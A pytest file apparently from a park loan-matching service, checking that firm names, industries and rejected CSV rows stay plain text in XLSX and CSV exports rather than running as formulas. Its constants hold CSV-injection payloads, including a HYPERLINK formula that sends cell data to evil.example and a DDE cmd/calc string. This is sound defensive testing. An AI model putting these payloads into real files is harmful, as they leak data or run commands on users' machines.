"""Text typed by a firm or a bank never runs as a formula in the files Yinqi writes (OWASP's
"CSV Injection"): firms registered over HTTP with names and industries such as
`=HYPERLINK(…)`, then every workbook fetched the three ways a person gets one (the API, the
dashboard, the command line), unzipped and opened again; and the CSV of rejected list rows."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.cli import app
from api.workbooks.xlsx import Column, add_table, csv_field, new_workbook, to_bytes
from db.core.config import get_settings
from tests.api.conftest import Api
from tests.db.report_story import cn

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-2+3"
HOSTILE = (LINK, CMD, SUM, MINUS, "\t=1", "\r=1")
PARK = "越城高新区小微企业园"
WEEK = {"from": "2026-11-23", "to": "2026-11-29"}
YES = ("compliant_operation", "fixed_premises", "real_need", "good_credit", "lawful_purpose")

Books = dict[str, bytes]  # ledger, summary, weekly → the workbook's bytes


def _register(api: Api, name: str, industry: str, **standards: bool) -> dict[str, Any]:
    """A firm of the park registered by the coordinator over HTTP, as typed."""
    body = {
        "firm": {
            "entity_type": "enterprise",
            "name": name,
            "city": "绍兴",
            "county": "越城",
            "park": PARK,
            "industry": industry,
        },
        "need": {"amount": "100万", "purpose": "working_capital", "term_months": 12},
        "standards": dict.fromkeys(YES, True) | standards,
        "contact": {"name": "王丽", "phone": "13857512345"},
    }
    answer = api.as_(api.seeded.coordinator).post("/api/v1/needs", json=body)
    assert answer.status_code == 201, answer.json()
    registered: dict[str, Any] = answer.json()
    return registered


@pytest.fixture
def hostile(api: Api) -> Api:
    """Three firms whose text could start a formula, each on the weekly problem list: the first
    declined by its bank (with a detail as hostile), the others failing a standard."""
    api.clock.now = cn(11, 24, 10)
    linked = _register(api, LINK, CMD)
    offer = linked["offers"][0]
    bank = api.as_(api.seeded.bank_admins[offer["bank"]["code"]])
    declined = bank.post(
        f"/api/v1/leads/{offer['lead_id']}/decline",
        json={"reason_code": "bank_service", "detail": f"{SUM} \t=1"},
    )
    assert declined.status_code == 200, declined.json()
    _register(api, MINUS, SUM, fixed_premises=False)
    _register(api, SUM, MINUS, good_credit=False)
    api.clock.now = cn(11, 30, 12)
    return api


def _from_api(api: Api, tmp_path: Path) -> Books:
    caller = api.as_(api.seeded.coordinator)
    gets = {
        "ledger": ("ledger.xlsx", {"park": "yc-gxq", "quarter": "2026Q4"}),
        "summary": ("needs-summary.xlsx", {"park": "yc-gxq", "quarter": "2026Q4"}),
        "weekly": ("weekly.xlsx", WEEK),
        "city": ("city-summary.xlsx", {"quarter": "2026Q4"}),
        "partners": ("partner-banks.xlsx", {"quarter": "2026Q4"}),
    }
    return {
        name: _ok(caller.get(f"/api/v1/reports/{path}", params=params).content)
        for name, (path, params) in gets.items()
    }


def _from_dashboard(api: Api, tmp_path: Path) -> Books:
    client = TestClient(api.app, base_url="https://testserver", follow_redirects=False)
    token = api.seeded.token(api.seeded.coordinator)
    signed = client.post("/dashboard/sign-in", data={"token": token, "next": "/dashboard"})
    assert signed.status_code == 303, signed.text
    query = {**WEEK, "park": "yc-gxq"}
    return {
        name: _ok(client.get(f"/dashboard/{path}", params=query).content)
        for name, path in (
            ("ledger", "ledger.xlsx"),
            ("summary", "needs-summary.xlsx"),
            ("weekly", "weekly.xlsx"),
            ("city", "city-summary.xlsx"),
            ("partners", "partner-banks.xlsx"),
        )
    }


def _from_cli(api: Api, tmp_path: Path) -> Books:
    runs = {
        "ledger": ("ledger", "--park", "yc-gxq", "--quarter", "2026Q4"),
        "summary": ("needs-summary", "--park", "yc-gxq", "--quarter", "2026Q4"),
        "weekly": ("weekly", "--from", WEEK["from"], "--to", WEEK["to"]),
        "city": ("city-summary", "--quarter", "2026Q4"),
        "partners": ("partner-banks", "--quarter", "2026Q4"),
    }
    books = {}
    for name, args in runs.items():
        out = tmp_path / f"{name}.xlsx"
        result = CliRunner().invoke(app, ["report", *args, "--out", str(out)])
        assert result.exit_code == 0, result.output
        books[name] = out.read_bytes()
    return books


def _ok(data: bytes) -> bytes:
    assert data.startswith(b"PK"), data[:200]  # a workbook, not an error page
    return data


@pytest.fixture
def database_url(api: Api, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """`DATABASE_URL` naming the API's database, for the command line."""
    url = api.seeded.engine.url.render_as_string(hide_password=False)
    monkeypatch.setenv("DATABASE_URL", url)
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


def _no_formula_element(data: bytes) -> None:
    """No sheet of the file holds an `<f>` (formula) element, whatever openpyxl reads."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), name


def _cells(data: bytes) -> dict[str, list[Any]]:
    """Every non-empty cell of every sheet, opened again; none of them a formula."""
    _no_formula_element(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = {
        ws.title: [c for row in ws.iter_rows() for c in row if c.value is not None]
        for ws in book.worksheets
    }
    assert all(c.data_type != "f" for sheet in cells.values() for c in sheet)
    return cells


def _kept_as_typed(cell: Any) -> None:
    """Text, shown as typed (no stray apostrophe), marked to stay text when edited."""
    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


@pytest.mark.parametrize("fetch", [_from_api, _from_dashboard, _from_cli])
def test_hostile_names_and_industries_stay_text_in_every_workbook(
    hostile: Api,
    database_url: None,
    tmp_path: Path,
    fetch: Callable[[Api, Path], Books],
) -> None:
    books = fetch(hostile, tmp_path)
    ledger = _cells(books["ledger"])["分类建档基础台账"]
    typed = [c for c in ledger if c.value in HOSTILE]
    assert sorted((c.column_letter, c.value) for c in typed) == sorted(
        [("B", LINK), ("E", CMD), ("B", MINUS), ("E", SUM), ("B", SUM), ("E", MINUS)]
    )  # 企业名称 and 行业 of the three firms
    for cell in typed:
        _kept_as_typed(cell)
    amounts = [c for c in ledger if c.column_letter == "J" and c.row > 3]
    assert [(c.value, c.data_type) for c in amounts] == [(100, "n")] * 3  # numbers stay numbers
    for name in ("summary", "city", "partners"):
        _cells(books[name])  # no user text in them, and still no formula
    problems = _cells(books["weekly"])["重点问题清单"]
    firms = [c for c in problems if c.column_letter == "F" and c.row > 3]
    assert sorted(c.value for c in firms) == sorted((LINK, MINUS, SUM))
    for cell in firms:
        _kept_as_typed(cell)


def test_every_kind_of_formula_start_is_written_as_text_and_numbers_as_numbers() -> None:
    book = new_workbook()
    add_table(
        book,
        sheet="表",
        title=LINK,
        subtitle=CMD,
        columns=[Column("文本", lambda row: row[0]), Column("数", lambda row: row[1])],
        rows=[(typed, -2) for typed in HOSTILE] + [("绍兴甲材料有限公司", 3.5)],
    )
    cells = _cells(to_bytes(book))["表"]
    texts = [c for c in cells if isinstance(c.value, str) and c.row != 3]
    read_back = [typed.replace("\r", "\n") for typed in HOSTILE]  # XML reads a CR as an LF
    assert [c.value for c in texts] == [LINK, CMD, *read_back, "绍兴甲材料有限公司"]
    for cell in texts[:-1]:
        _kept_as_typed(cell)
    assert not texts[-1].quotePrefix  # plain text left alone
    numbers = [c for c in cells if c.column_letter == "B" and c.row > 3]
    assert [(c.value, c.data_type) for c in numbers] == [(-2, "n")] * 6 + [(3.5, "n")]


def test_control_characters_a_cell_cannot_hold_are_left_out_not_a_failed_workbook() -> None:
    book = new_workbook()
    typed = "绍兴\x0b精密\x01机械\x1f有限公司"
    add_table(
        book,
        sheet="表",
        title="台账",
        subtitle="",
        columns=[Column("名称", lambda row: row)],
        rows=[typed],
    )
    [cell] = [c for c in _cells(to_bytes(book))["表"] if c.row > 3]
    assert cell.value == "绍兴精密机械有限公司"


def test_csv_fields_that_could_start_a_formula_get_an_apostrophe() -> None:
    assert [csv_field(typed) for typed in HOSTILE] == [f"'{typed}" for typed in HOSTILE]
    left_alone = ("绍兴甲材料有限公司", "", 3, -2)  # numbers are no text typed by anyone
    assert [csv_field(value) for value in left_alone] == list(left_alone)


def test_rejected_list_rows_are_written_to_csv_as_text_excel_will_not_run(
    api: Api, database_url: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    listed = tmp_path / "bhjwq.csv"
    with listed.open("w", encoding="utf-8", newline="") as out:
        rows = [(LINK, "123"), (CMD, MINUS), (SUM, "=1+1"), ("绍兴丁印染有限公司", "@1")]
        csv.writer(out).writerows([("name", "uscc"), *rows])
    errors = tmp_path / "rejected.csv"
    result = CliRunner().invoke(app, ["list", "import", str(listed), "--errors", str(errors)])
    assert result.exit_code == 0, result.output
    with errors.open(encoding="utf-8-sig", newline="") as written:
        found = list(csv.reader(written))
    assert found[0] == ["line", "reason", "name", "uscc"]
    assert [(line, name, uscc) for line, _, name, uscc in found[1:]] == [
        ("2", f"'{LINK}", "123"),
        ("3", f"'{CMD}", f"'{MINUS}"),
        ("4", f"'{SUM}", "'=1+1"),
        ("5", "绍兴丁印染有限公司", "'@1"),
    ]
